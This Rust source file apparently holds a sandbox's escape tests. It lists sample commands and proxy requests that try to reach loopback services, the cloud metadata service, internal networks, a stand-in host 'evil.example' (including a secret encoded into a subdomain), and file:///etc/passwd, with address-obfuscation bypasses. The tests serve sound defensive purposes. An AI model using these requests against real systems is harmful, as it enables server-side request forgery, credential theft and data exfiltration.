//! Ways to the machine, to the network around it and to the world that no session may take.

use super::Attack;
use super::told::Teller;
use super::untold::{LISTS, LOOPBACK, OWN, WRITES};

/// Asks the session's proxy by hand; through where it says yes. `named`: as what it is told.
fn asks(name: &str, request: &str, named: &str) -> Attack {
    let script = format!(
        "printf '{request}\\r\\n\\r\\n' | perl -MIO::Socket::INET -e '\
         ($h, $p) = $ENV{{HTTPS_PROXY}} =~ m|//(.*):(\\d+)|; $s = IO::Socket::INET->new(\"$h:$p\") or exit; \
         local $/; print $s <STDIN>; $s->flush; $/ = \"\\n\"; $l = <$s>; print \"BROKEN\\n\" if $l =~ / 200 /'"
    );
    Attack::only_inside(name, &script).told(Teller::Proxy, named)
}

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = vec![
        Attack::new(
            "connect to a service on the machine's loopback",
            "perl -MIO::Socket::INET -e 'print \"BROKEN\\n\" if IO::Socket::INET->new(\"127.0.0.1:$ARGV[0]\")' $PORT",
        ).untold(LOOPBACK),
        Attack::new(
            "connect to a socket of the machine that has a name only",
            "perl -MSocket -e 'socket($s, AF_UNIX, SOCK_STREAM, 0); print \"BROKEN\\n\" if connect($s, pack(\"S a*\", AF_UNIX, \"\\0$ARGV[0]\"))' \"$ABSTRACT\"",
        ).told(Teller::Look, "@skep-canary-"),
        Attack::only_inside(
            "connect to a public address",
            "perl -MIO::Socket::INET -e 'print \"BROKEN\\n\" if IO::Socket::INET->new(PeerAddr => \"1.1.1.1:443\", Timeout => 2)'",
        ).told(Teller::Look, "1.1.1.1:443"),
        Attack::only_inside(
            "connect to the cloud's metadata service",
            "perl -MIO::Socket::INET -e 'print \"BROKEN\\n\" if IO::Socket::INET->new(PeerAddr => \"169.254.169.254:80\", Timeout => 2)'",
        ).told(Teller::Look, "169.254.169.254:80"),
        Attack::only_inside(
            "send a datagram to a name server",
            "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"8.8.8.8:53\", Proto => \"udp\") or exit; print \"BROKEN\\n\" if send($s, \"x\", 0)'",
        ).told(Teller::Look, "8.8.8.8:53"),
        Attack::only_inside(
            "look a name up",
            "getent ahostsv4 example.com | grep -q . && echo BROKEN",
        ).told(Teller::Look, "a name server"),
        Attack::only_inside(
            "see another network than its own loopback",
            "tail -n +3 /proc/net/dev | grep -v lo: | grep -q . && echo BROKEN",
        ).untold(OWN),
        Attack::only_inside(
            "see the machine's connections",
            "tail -n +2 /proc/net/tcp | grep -q ':0016 ' && echo BROKEN",
        ).untold(OWN),
        Attack::only_inside(
            "take the place of the proxy's socket",
            "rm -f /run/skep/egress.sock && echo BROKEN",
        ).untold(WRITES),
        Attack::only_inside(
            "make a socket beside the proxy's",
            "touch /run/skep/new && echo BROKEN",
        ).untold(WRITES),
        Attack::only_inside(
            "use the ways out of other sessions",
            "ls $DATA/ways | grep -q . && echo BROKEN",
        ).untold(LISTS),
        Attack::only_inside(
            "fetch from a host nobody listed",
            "curl -s -m 5 https://evil.example/ | grep -q . && echo BROKEN",
        ).told(Teller::Proxy, "evil.example:443"),
        Attack::only_inside(
            "fetch from the machine by the proxy",
            "curl -s -m 5 --noproxy '' http://127.0.0.1:$PORT/ -w '%{http_code}' | grep -q 200 && echo BROKEN",
        ).told(Teller::Proxy, "127.0.0.1:"),
        Attack::only_inside(
            "send a secret in a host's name",
            "curl -s -m 5 https://c2VjcmV0.evil.example/ | grep -q . && echo BROKEN",
        ).told(Teller::Proxy, "c2vjcmv0.evil.example:443"),
    ];
    let requests = [
        (
            "tunnel to a host nobody listed",
            "CONNECT evil.example:443 HTTP/1.1",
            "evil.example:443",
        ),
        (
            "tunnel to the machine",
            "CONNECT 127.0.0.1:22 HTTP/1.1",
            "127.0.0.1:22",
        ),
        (
            "tunnel to the machine by its name",
            "CONNECT localhost:22 HTTP/1.1",
            "localhost:22",
        ),
        (
            "tunnel to the machine by IPv6",
            "CONNECT [::1]:22 HTTP/1.1",
            "[::1]:22",
        ),
        (
            "tunnel to the machine by IPv4 in IPv6",
            "CONNECT [::ffff:127.0.0.1]:22 HTTP/1.1",
            "[::ffff:127.0.0.1]:22",
        ),
        (
            "tunnel to the machine by no address",
            "CONNECT 0.0.0.0:22 HTTP/1.1",
            "0.0.0.0:22",
        ),
        (
            "tunnel to the machine by a number",
            "CONNECT 2130706433:22 HTTP/1.1",
            "its proxy",
        ),
        (
            "tunnel to the machine by a hexadecimal number",
            "CONNECT 0x7f000001:22 HTTP/1.1",
            "its proxy",
        ),
        (
            "tunnel to the machine by an octal number",
            "CONNECT 0177.0.0.1:22 HTTP/1.1",
            "its proxy",
        ),
        (
            "tunnel to the machine by a short number",
            "CONNECT 127.1:22 HTTP/1.1",
            "its proxy",
        ),
        (
            "tunnel to the cloud's metadata service",
            "CONNECT 169.254.169.254:80 HTTP/1.1",
            "169.254.169.254:80",
        ),
        (
            "tunnel to the cloud's metadata service by IPv6",
            "CONNECT [fd00:ec2::254]:80 HTTP/1.1",
            "[fd00:ec2::254]:80",
        ),
        (
            "tunnel into the network around",
            "CONNECT 10.0.0.1:443 HTTP/1.1",
            "10.0.0.1:443",
        ),
        (
            "tunnel into the home network around",
            "CONNECT 192.168.1.1:443 HTTP/1.1",
            "192.168.1.1:443",
        ),
        (
            "tunnel to a public address",
            "CONNECT 1.1.1.1:443 HTTP/1.1",
            "1.1.1.1:443",
        ),
        (
            "tunnel to GitHub with its own name",
            "CONNECT api.github.com:443 HTTP/1.1",
            "api.github.com:443",
        ),
        (
            "tunnel to a host with a user before it",
            "CONNECT api.openai.com@evil.example:443 HTTP/1.1",
            "its proxy",
        ),
        (
            "tunnel to a host with a dot at its end",
            "CONNECT evil.example.:443 HTTP/1.1",
            "its proxy",
        ),
        (
            "tunnel to a host by a percent code",
            "CONNECT evil%%2eexample:443 HTTP/1.1",
            "its proxy",
        ),
        (
            "ask the proxy for the metadata service",
            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1",
            "169.254.169.254",
        ),
        (
            "ask the proxy for the machine",
            "GET http://127.0.0.1:9090/api/v1/status HTTP/1.1",
            "127.0.0.1:9090",
        ),
        (
            "ask the proxy for a host nobody listed",
            "GET http://evil.example/ HTTP/1.1",
            "evil.example",
        ),
        (
            "ask the proxy for a file",
            "GET file:///etc/passwd HTTP/1.1",
            "its proxy",
        ),
        ("ask the proxy for itself", "GET / HTTP/1.1", "its proxy"),
    ];
    all.extend(requests.map(|(name, request, named)| asks(name, request, named)));
    all
}
